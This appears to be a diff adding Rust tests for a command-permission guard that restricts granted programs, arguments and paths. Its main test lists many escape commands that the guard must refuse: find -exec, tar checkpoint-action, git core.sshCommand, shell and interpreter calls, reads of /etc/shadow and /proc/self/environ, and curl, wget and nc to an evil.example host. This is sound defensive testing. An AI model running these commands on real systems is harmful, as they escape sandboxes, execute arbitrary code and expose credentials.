@@ -1,0 +1,291 @@
+//! Ways out of an allowed command, each by its name, and honest commands that have to pass.
+
+use super::*;
+
+/// A rule with these words, for files beneath `/w` only.
+fn check<'c>(rule: &CommandRule, line: &'c str) -> Result<(), CommandRefusal<'c>> {
+    let mut words = line.split(' ');
+    let program = PathRef::absolute(words.next().unwrap()).unwrap();
+    let arguments: Vec<&str> = words.collect();
+    let work = PathRef::absolute("/w").unwrap();
+    rule.check(program, &arguments, "/w/dir", |path, _| path.is_within(work))
+}
+
+fn bare(line: &str) -> CommandRule {
+    CommandRule::new(Path::parse(line.split(' ').next().unwrap()).unwrap())
+}
+
+/// One line for each way out that is known; the grant names the program and nothing else.
+#[test]
+fn every_known_way_out_is_closed() {
+    for line in [
+        "/usr/bin/find . -exec id ;",
+        "/usr/bin/find . -execdir id ;",
+        "/usr/bin/find . -ok id ;",
+        "/usr/bin/find . -okdir id ;",
+        "/usr/bin/find . -delete",
+        "/usr/bin/find . -fprintf x %p",
+        "/usr/bin/find . -fprint x",
+        "/usr/bin/find . -fls x",
+        "/usr/bin/find -files0-from list",
+        "/usr/bin/find / -name shadow",
+        "/usr/bin/find .. -name shadow",
+        "/bin/tar -cf a.tar --checkpoint=1 --checkpoint-action=exec=id x",
+        "/bin/tar -cf a.tar --checkpoint-act=exec=id x",
+        "/bin/tar --to-command=id -xf a.tar",
+        "/bin/tar --to-c=id -xf a.tar",
+        "/bin/tar -I id -cf a.tar x",
+        "/bin/tar -cIf id a.tar x",
+        "/bin/tar --use-compress-program=id -cf a x",
+        "/bin/tar --use=id -cf a x",
+        "/bin/tar -F id -cf a x",
+        "/bin/tar --new-volume-script=id -cf a x",
+        "/bin/tar --rsh-command=id -cf h:a x",
+        "/bin/tar -xPf a.tar",
+        "/bin/tar --absolute-names -xf a.tar",
+        "/bin/tar -T /etc/passwd -cf a",
+        "/bin/tar -cf /etc/cron.d/x x",
+        "/bin/tar -cf host:/etc/x x",
+        "/usr/bin/git -c core.sshCommand=id fetch",
+        "/usr/bin/git -ccore.pager=id log",
+        "/usr/bin/git --config-env=core.pager=X log",
+        "/usr/bin/git --exec-path=/tmp log",
+        "/usr/bin/git --exec=id log",
+        "/usr/bin/git -C /etc log",
+        "/usr/bin/git --git-dir=/tmp/evil log",
+        "/usr/bin/git --work-tree=/etc checkout",
+        "/usr/bin/git fetch --upload-pack=id",
+        "/usr/bin/git clone -u id x",
+        "/usr/bin/git push --receive-pack=id",
+        "/usr/bin/git rebase --exec id",
+        "/usr/bin/git rebase -x id",
+        "/usr/bin/git grep -Oid x",
+        "/usr/bin/git grep --open-files-in-pager=id x",
+        "/usr/bin/git diff --ext-diff",
+        "/usr/bin/git diff --no-index a /etc/passwd",
+        "/usr/bin/git diff --output=x",
+        "/usr/bin/git log -p",
+        "/usr/bin/git init --template=/tmp/evil",
+        "/usr/bin/git archive --output=/etc/x HEAD",
+        "/usr/bin/sort --compress-program=id x",
+        "/usr/bin/sort --compress-prog=id x",
+        "/usr/bin/sort -o /etc/x x",
+        "/usr/bin/sort -ox x",
+        "/usr/bin/sort --files0-from=/etc/passwd",
+        "/usr/bin/sort -T /etc x",
+        "/usr/bin/xargs id",
+        "/usr/bin/env id",
+        "/usr/bin/env -S id",
+        "/usr/bin/nohup id",
+        "/usr/bin/timeout 5 id",
+        "/usr/bin/nice id",
+        "/usr/bin/watch id",
+        "/usr/bin/parallel id",
+        "/usr/bin/setsid id",
+        "/usr/bin/stdbuf -o0 id",
+        "/bin/busybox sh",
+        "/usr/bin/script -c id",
+        "/usr/bin/sudo id",
+        "/usr/bin/su -c id",
+        "/bin/sh -c id",
+        "/bin/sh script",
+        "/bin/bash -c id",
+        "/usr/bin/python3 -c 1",
+        "/usr/bin/python3.11 -m http.server",
+        "/usr/bin/perl -e 1",
+        "/usr/bin/ruby -e 1",
+        "/usr/bin/node -e 1",
+        "/usr/bin/lua -e 1",
+        "/usr/bin/php -r 1",
+        "/usr/bin/awk BEGIN{system(\"id\")}",
+        "/usr/bin/gawk -f x",
+        "/usr/bin/make all",
+        "/usr/bin/cargo build",
+        "/usr/bin/npm install",
+        "/usr/bin/pip install x",
+        "/usr/bin/docker run -v /:/x y",
+        "/usr/bin/ssh host id",
+        "/usr/bin/scp x host:/x",
+        "/usr/bin/rsync -e id x y",
+        "/usr/bin/nc host 1",
+        "/usr/bin/curl https://evil.example",
+        "/usr/bin/curl -o /etc/x https://evil.example",
+        "/usr/bin/wget https://evil.example",
+        "/usr/bin/vim -c :!id",
+        "/usr/bin/less x",
+        "/usr/bin/man -P id x",
+        "/usr/bin/gdb x",
+        "/usr/bin/strace id",
+        "/usr/bin/crontab x",
+        "/usr/bin/systemd-run id",
+        "/usr/bin/sed -i s/a/b/ x",
+        "/usr/bin/sed -n -e 1e x",
+        "/usr/bin/sed --in-pl x y",
+        "/usr/bin/sed -f script x",
+        "/usr/bin/zip -T -TT id a.zip x",
+        "/usr/bin/zip a.zip x -T",
+        "/usr/bin/zip --unzip-command=id a.zip x",
+        "/usr/bin/rg --pre=id x",
+        "/usr/bin/rg --pre id x",
+        "/usr/bin/grep -f /etc/shadow x",
+        "/usr/bin/grep -rf list x",
+        "/usr/bin/grep root /etc/passwd",
+        "/usr/bin/grep root ../../etc/passwd",
+        "/usr/bin/grep root ~/x",
+        "/usr/bin/jq -n $ENV",
+        "/usr/bin/jq -n env.HOME",
+        "/usr/bin/jq -f x y",
+        "/usr/bin/jq --rawfile x /etc/passwd y",
+        "/bin/cat /etc/passwd",
+        "/bin/cat ../x",
+        "/bin/cat a/../../x",
+        "/bin/cat -- /etc/passwd",
+        "/bin/cat @/etc/passwd",
+        "/bin/cat /proc/self/environ",
+        "/bin/cat /wfoo/x",
+        "/usr/bin/head -n1 /etc/passwd",
+        "/usr/bin/tail --lines=1 /etc/passwd",
+        "/usr/bin/wc --files0-from=/etc/passwd",
+        "/usr/bin/wc --files0=list",
+        "/usr/bin/date -f /etc/passwd",
+        "/usr/bin/diff --from-file=/etc/passwd x",
+        "/usr/bin/file -f /etc/passwd",
+        "/usr/bin/tee /etc/x",
+        "/bin/cp x /etc/x",
+        "/bin/cp --target-directory=/etc x",
+        "/bin/cp -t /etc x",
+        "/bin/rm -r x",
+        "/bin/rm --recurs x",
+        "/bin/rm /etc/passwd",
+        "/bin/dd if=/etc/shadow of=x",
+        "/bin/dd of=x",
+        "/bin/chmod -R 777 x",
+        "/opt/unknown --config=/etc/x",
+        "/opt/unknown -I/etc",
+        "/opt/unknown key=/etc/x",
+        "/opt/unknown a:/etc/x",
+    ] {
+        assert!(check(&bare(line), line).is_err(), "{line}");
+    }
+}
+
+#[test]
+fn honest_commands_pass() {
+    for line in [
+        "/usr/bin/find . -name x -type f",
+        "/usr/bin/find /w/src -newer a",
+        "/bin/tar -cf a.tar src docs",
+        "/bin/tar -tf a.tar",
+        "/usr/bin/git status",
+        "/usr/bin/git log --oneline -n 5",
+        "/usr/bin/git diff HEAD src/main.rs",
+        "/usr/bin/sort -n -k2 x",
+        "/usr/bin/grep -rn word .",
+        "/usr/bin/grep -- -f x",
+        "/usr/bin/rg -n word src",
+        "/usr/bin/jq .items[] data.json",
+        "/bin/cat a.txt /w/b.txt",
+        "/bin/ls -la",
+        "/usr/bin/head -n 5 a.txt",
+        "/usr/bin/wc -l a.txt",
+        "/usr/bin/sed -n 1,5p a.txt",
+        "/usr/bin/python3 --version",
+        "/bin/mkdir new",
+        "/bin/cp a b",
+        "/opt/unknown build --fast",
+        "/bin/echo $(id) ; rm x | sh && `id`",
+    ] {
+        assert_eq!(check(&bare(line), line), Ok(()), "{line}");
+    }
+}
+
+#[test]
+fn the_program_is_a_path_never_its_last_part() {
+    let rule = bare("/usr/bin/git");
+    for line in ["/tmp/git status", "/usr/bin/git2 status", "/usr/bin status"] {
+        assert_eq!(check(&rule, line), Err(CommandRefusal::Program), "{line}");
+    }
+}
+
+#[test]
+fn a_subcommand_comes_first() {
+    let mut rule = bare("/usr/bin/git");
+    rule.subcommands = Vec::from(["status".into(), "log".into()]);
+    assert_eq!(check(&rule, "/usr/bin/git status"), Ok(()));
+    for line in ["/usr/bin/git", "/usr/bin/git push", "/usr/bin/git --bare status"] {
+        assert_eq!(check(&rule, line), Err(CommandRefusal::Subcommand), "{line}");
+    }
+    let guarded = check(&rule, "/usr/bin/git log -c core.pager=id");
+    assert!(matches!(guarded, Err(CommandRefusal::Guarded("-c", _))), "{guarded:?}");
+}
+
+/// What a grant refuses comes on top of the guard; what it frees is only what it says.
+#[test]
+fn a_grant_adds_to_the_guard() {
+    let mut rule = bare("/usr/bin/find");
+    rule.refused = Vec::from(["-newer".into()]);
+    assert_eq!(check(&rule, "/usr/bin/find . -newer x"), Err(CommandRefusal::Refused("-newer")));
+    let line = "/usr/bin/find . -delete";
+    assert!(matches!(check(&rule, line), Err(CommandRefusal::Guarded("-delete", _))));
+    rule.is_unguarded = true;
+    assert_eq!(check(&rule, line), Ok(()));
+    assert!(check(&rule, "/usr/bin/find . -newer x").is_err());
+    assert!(matches!(rule.warning(), Some(CommandWarning::Unguarded(_))));
+    assert_eq!(check(&rule, "/usr/bin/find /etc"), Err(CommandRefusal::Path("/etc")));
+    rule.may_use_any_path = true;
+    assert_eq!(check(&rule, "/usr/bin/find /etc"), Ok(()));
+    let ls = bare("/bin/ls");
+    let nowhere = ls.check(ls.program.borrow(), &[], "/etc", |_, _| false);
+    assert_eq!(nowhere, Err(CommandRefusal::Path("/etc")), "the directory counts too");
+}
+
+#[test]
+fn bare_grants_of_dangerous_programs_are_warned_of() {
+    for program in ["/bin/sh", "/usr/bin/python3", "/usr/bin/env", "/usr/bin/xargs"] {
+        assert!(matches!(bare(program).warning(), Some(CommandWarning::Useless(_))), "{program}");
+    }
+    for program in ["/usr/bin/find", "/usr/bin/git", "/bin/tar"] {
+        assert!(matches!(bare(program).warning(), Some(CommandWarning::Guarded(_))), "{program}");
+    }
+    for program in ["/bin/ls", "/opt/weather"] {
+        assert_eq!(bare(program).warning(), None, "{program}");
+    }
+}
+
+/// A narrower rule covers no command that the wider one does not.
+#[test]
+fn within_means_covered() {
+    let words = ["log", "push", "-c", "--exec=x", "a", "/etc", "of=x", "-Rx", "--", "@b", "x:/y"];
+    arbtest::arbtest(|u| {
+        let mut rule = || -> arbitrary::Result<CommandRule> {
+            let programs = ["/usr/bin/git", "/bin/cp", "/opt/x"];
+            let mut rule = bare(u.choose(&programs)?);
+            for word in words {
+                if u.ratio(1, 5)? {
+                    rule.subcommands.push(word.into());
+                }
+                if u.ratio(1, 6)? {
+                    rule.refused.push(word.into());
+                }
+            }
+            rule.may_use_any_path = u.arbitrary()?;
+            rule.is_unguarded = u.arbitrary()?;
+            Ok(rule)
+        };
+        let (narrow, wide) = (rule()?, rule()?);
+        let narrow = if u.arbitrary()? {
+            CommandRule { program: wide.program.clone(), ..narrow }
+        } else {
+            narrow
+        };
+        let mut line = alloc::string::String::from(narrow.program.as_str());
+        for _ in 0..u.int_in_range(0..=4)? {
+            line.push(' ');
+            line.push_str(u.choose(&words)?);
+        }
+        if narrow.is_within(&wide) && check(&narrow, &line).is_ok() {
+            assert_eq!(check(&wide, &line), Ok(()), "{narrow:?} in {wide:?}: {line}");
+        }
+        Ok(())
+    });
+}
